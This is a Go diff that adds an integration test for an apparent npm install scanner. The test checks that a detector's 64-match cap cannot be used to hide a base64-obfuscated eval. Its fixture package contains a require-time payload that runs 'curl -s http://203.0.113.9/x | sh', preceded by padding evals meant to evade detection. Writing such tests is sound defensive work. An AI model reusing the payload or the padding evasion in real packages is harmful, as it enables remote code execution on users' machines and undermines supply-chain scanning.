@@ -1,6 +1,7 @@
 package integration
 
 import (
+	"encoding/base64"
 	"os"
 	"path/filepath"
 	"strings"
@@ -104,6 +105,40 @@ func TestAttackDetectManagerLookalike(t *testing.T) {
 		if strings.Contains(r.Stderr, "PB-BEHAVIOUR-NETWORK") && !strings.Contains(r.Stderr, "pbox-mimic") {
 			t.Errorf("the finding does not name the package whose script started the process\n%s", r)
 		}
+		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
+	})
+}
+
+// The static analysis keeps the first 64 matches of each pattern before it drops
+// the harmless ones (eval of a string literal): 64 `eval("0")` in front of a
+// require-time payload hide its eval from PB-ANALYSIS-EVAL-DECODE (high), and
+// nothing else sees code that runs only when the application require()s it.
+func TestAttackDetectAnalysisMatchCap(t *testing.T) {
+	requireTool(t, "npm")
+	forEachMode(t, func(t *testing.T, m mode) {
+		padding := strings.Repeat("eval(\"0\");\n", 64)
+		// The legitimate twin: the same literal evals, nothing decoded.
+		g := detectProject(t, m, map[string]map[string]string{
+			"pbox-literals": {
+				"package.json": `{"name":"pbox-literals","version":"1.0.0","main":"index.js"}`,
+				"index.js":     padding + "module.exports = 1\n",
+			},
+		})
+		r := g.tool("", "npm", "install")
+		wantCode(t, r, 0, "a package whose entry evaluates string literals")
+		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-literals", "index.js"), "the twin is installed")
+
+		payload := base64.StdEncoding.EncodeToString([]byte("require('child_process').exec('curl -s http://203.0.113.9/x | sh')"))
+		b := detectProject(t, m, map[string]map[string]string{
+			"pbox-padded": {
+				"package.json": `{"name":"pbox-padded","version":"1.0.0","main":"index.js"}`,
+				"index.js":     padding + "module.exports = 1;\nconst x = Buffer.from('" + payload + "', 'base64').toString();\neval(x);\n",
+			},
+		})
+		before := treeHash(t, b.Project, true)
+		r = b.tool("", "npm", "install")
+		wantCode(t, r, 3, "an eval of a decoded base64 blob behind 64 literal evals")
+		wantStderr(t, r, "pbox-padded@1.0.0", "PB-ANALYSIS-EVAL-DECODE")
 		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
 	})
 }
